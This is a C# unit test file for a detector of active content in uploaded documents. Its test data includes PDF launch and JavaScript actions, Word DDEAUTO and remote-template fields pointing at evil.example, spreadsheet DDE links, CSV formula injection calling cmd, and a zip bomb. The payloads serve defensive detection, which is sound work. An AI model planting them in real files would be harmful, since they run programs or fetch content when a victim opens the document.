using System.Diagnostics;
using System.IO.Compression;
using System.Text;
using Mediation.Core.Files;

namespace Mediation.Tests.Core.Files;

/// <summary>What would run or fetch something when it is opened is refused; what documents ordinarily have is not.</summary>
public sealed class ActiveContentTests
{
    private const string Docx = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
    private const string Xlsx = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
    private const string Relationships = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

    [Theory]
    [InlineData("1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj", false)]
    [InlineData("1 0 obj << /OpenAction [3 0 R /FitH null] >> endobj", false)]
    [InlineData("1 0 obj << /OpenAction 5 0 R >> endobj\n5 0 obj << /S /GoTo /D [3 0 R /Fit] >> endobj", false)]
    [InlineData("1 0 obj << /A << /S /URI /URI (https://bank.example) >> >> endobj", false)]
    [InlineData("1 0 obj << /Launchpad /No >> endobj", false)]
    [InlineData("1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >> endobj", true)]
    [InlineData("1 0 obj << /OpenAction << /S /J#61vaScript /JS (x) >> >> endobj", true)]
    [InlineData("1 0 obj << /AA << /O << /S/Launch /F (cmd.exe) >> >> >> endobj", true)]
    [InlineData("1 0 obj << /OpenAction << /S /URI /URI (http://evil.example) >> >> endobj", true)]
    [InlineData("1 0 obj << /OpenAction 5 0 R >> endobj\n5 0 obj << /S /GoToR /F (//evil/x) >> endobj", true)]
    [InlineData("1 0 obj << /OpenAction 99 0 R >> endobj", true)]
    public void A_pdf_may_open_at_a_place_and_may_run_nothing(string objects, bool isActive) =>
        IsIn(Encoding.Latin1.GetBytes("%PDF-1.7\n" + objects), "application/pdf").ShouldBe(isActive);

    [Fact]
    public void What_stands_packed_in_a_pdf_is_read_too()
    {
        IsIn(PdfOf("5 0 ", "<< /S /JavaScript /JS (x) >>"), "application/pdf").ShouldBeTrue();
        IsIn(PdfOf("5 0 ", "<< /S /GoTo /D [3 0 R /Fit] >>", "/OpenAction 5 0 R"), "application/pdf").ShouldBeFalse();
        IsIn(PdfOf("5 0 ", "<< /S /URI /URI (http://evil.example) >>", "/OpenAction 5 0 R"), "application/pdf").ShouldBeTrue();
        IsIn(Encoding.Latin1.GetBytes("%PDF-1.7\n4 0 obj << /Type /ObjStm /Filter /LZWDecode >>\nstream\nxx\nendstream"), "application/pdf").ShouldBeTrue();
    }

    [Theory]
    [InlineData("hyperlink", "https://bank.example", false)]
    [InlineData("attachedTemplate", "http://evil.example/t.dotm", true)]
    [InlineData("oleObject", "http://evil.example/o", true)]
    [InlineData("image", "http://evil.example/i.png", true)]
    [InlineData("frame", "http://evil.example/f.htm", true)]
    public void A_letter_may_name_a_link_and_fetch_nothing(string type, string target, bool isActive) =>
        IsIn(
                Zip(
                    (
                        "word/_rels/settings.xml.rels",
                        $"<Relationships><Relationship Id=\"a\" Type=\"{Relationships}/{type}\" Target=\"{target}\" TargetMode=\"External\"/></Relationships>"
                    )
                ),
                Docx
            )
            .ShouldBe(isActive);

    [Theory]
    [InlineData("<w:fldSimple w:instr=\"PAGE \\* MERGEFORMAT\"/>", false)]
    [InlineData("<w:t>DDEAUTO is a word here</w:t>", false)]
    [InlineData("<w:fldSimple w:instr=\" DDEAUTO c:\\\\cmd.exe\"/>", true)]
    [InlineData("<w:fldChar/><w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\\\cmd.exe</w:instrText><w:fldChar/>", true)]
    [InlineData("<w:fldChar/><w:instrText xml:space=\"preserve\"> INCLUDETEXT \"http://evil.example\"</w:instrText><w:fldChar/>", true)]
    public void A_field_of_a_letter_may_count_pages_and_call_no_program(string field, bool isActive) =>
        IsIn(Zip(("word/document.xml", $"<w:document xmlns:w=\"w\"><w:p>{field}</w:p></w:document>")), Docx).ShouldBe(isActive);

    [Fact]
    public void A_workbook_that_reads_another_or_calls_a_program_is_active()
    {
        IsIn(Zip(("xl/worksheets/sheet1.xml", "<x/>")), Xlsx).ShouldBeFalse();
        IsIn(Zip(("xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>")), Xlsx)
            .ShouldBeTrue();
        IsIn(Zip(("xl/connections.xml", "<x/>")), Xlsx).ShouldBeTrue();
    }

    [Theory]
    [InlineData("日期,金额\n2026-11-13,-3280.00\n=SUM(B2:B3)", false)]
    [InlineData("管道|字符!", false)]
    [InlineData("日期,金额\n=cmd|'/c calc'!A0,1", true)]
    [InlineData("a,\"=cmd|'/c calc'!A0\"", true)]
    public void A_table_of_text_may_have_sums_and_call_no_program(string table, bool isActive) =>
        IsIn(Encoding.UTF8.GetBytes(table), "text/plain").ShouldBe(isActive);

    [Theory]
    [InlineData(1_950, 1_048_576)]
    [InlineData(1_950, 120_000)]
    [InlineData(60, 1_000_000)]
    public void A_letter_made_to_unpack_to_more_than_any_is_refused_at_once(int parts, int each)
    {
        var bomb = Zip([.. Enumerable.Range(0, parts).Select(i => ($"word/_rels/{i}.xml.rels", "<Relationships>" + new string(' ', each)))]);
        Process.GetCurrentProcess().Refresh();
        var before = Process.GetCurrentProcess().TotalProcessorTime;
        using MemoryStream content = new(bomb);
        (FileKind.Detect(content, "函.docx") is null || ActiveContent.IsIn(content, Docx)).ShouldBeTrue();
        (Process.GetCurrentProcess().TotalProcessorTime - before).ShouldBeLessThan(TimeSpan.FromSeconds(4));
    }

    private static bool IsIn(byte[] content, string mediaType)
    {
        using MemoryStream stream = new(content);
        return ActiveContent.IsIn(stream, mediaType);
    }

    /// <summary>A PDF whose objects stand packed in a stream.</summary>
    private static byte[] PdfOf(string numbers, string objects, string catalog = "")
    {
        using MemoryStream packed = new();
        using (ZLibStream zip = new(packed, CompressionLevel.Fastest, leaveOpen: true))
        {
            zip.Write(Encoding.Latin1.GetBytes(numbers + objects));
        }

        var head =
            $"%PDF-1.7\n1 0 obj << /Type /Catalog {catalog} >> endobj\n4 0 obj << /Type /ObjStm /N 1 /First {numbers.Length} /Filter /FlateDecode >>\nstream\n";
        return [.. Encoding.Latin1.GetBytes(head), .. packed.ToArray(), .. "\nendstream endobj"u8];
    }

    private static byte[] Zip(params (string Name, string Content)[] entries)
    {
        using MemoryStream stream = new();
        using (ZipArchive zip = new(stream, ZipArchiveMode.Create))
        {
            foreach (var (name, words) in entries.Prepend(("[Content_Types].xml", $"<Types><Override ContentType=\"{Docx}.main+xml\"/></Types>")))
            {
                using var content = zip.CreateEntry(name, CompressionLevel.Fastest).Open();
                content.Write(Encoding.UTF8.GetBytes(words));
            }
        }

        return stream.ToArray();
    }
}
